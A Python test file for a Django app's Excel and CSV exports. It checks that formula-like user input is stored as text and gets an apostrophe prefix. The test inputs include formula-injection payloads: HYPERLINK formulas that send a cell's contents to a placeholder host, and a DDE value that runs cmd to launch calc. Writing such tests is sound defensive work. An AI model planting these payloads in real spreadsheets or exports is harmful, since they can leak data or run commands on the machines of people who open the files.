"""The follow-up export writes every user-written text as data, never as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from finsam.exports import FORMULA_STARTS, safe_csv_value

from .test_views import submitted

NAMES = [f'{start}HYPERLINK("https://example.invalid/?"&B5,"Mer info")' for start in "=+-@"]
NAMES += ["\tcmd|' /C calc'!A0", "\r=1+1"]


def url(association, name):
    return reverse(f"followup:{name}", kwargs={"association_slug": association.slug})


@pytest.mark.parametrize("name", NAMES)
def test_a_formula_like_intervention_name_is_text_in_the_workbook_and_the_csv(
    client, association, intervention, members, measures, name
):
    with scopes_disabled():
        intervention.name = name
        intervention.save()
        measure = measures["active"]
        measure.name = "=1+2"
        measure.save()
    submitted(intervention, members, measures, active=(8, 12))
    client.force_login(members["kansli"])

    response = client.get(url(association, "export_excel") + "?year=2022")
    sheet = load_workbook(io.BytesIO(response.content)).active
    first = sheet.cell(2, 1)
    # XML reads a carriage return back as a line feed; the text is otherwise the same.
    assert first.value == name.replace("\r", "\n") and first.data_type == "s"
    headers = [cell for cell in sheet[1] if cell.value == "=1+2"]
    assert headers and headers[0].data_type == "s"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    response = client.get(url(association, "export_csv") + "?year=2022")
    text = response.content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert lines[1][0] == "'" + name
    assert "'=1+2" in lines[0]
    assert not [v for line in lines for v in line if v.startswith(FORMULA_STARTS)]


def test_only_texts_that_start_like_a_formula_get_the_apostrophe():
    assert safe_csv_value("Stegen") == "Stegen"
    assert safe_csv_value("a=b") == "a=b"
    assert safe_csv_value(-5) == -5  # a number is a number
    assert safe_csv_value("-5") == "'-5"
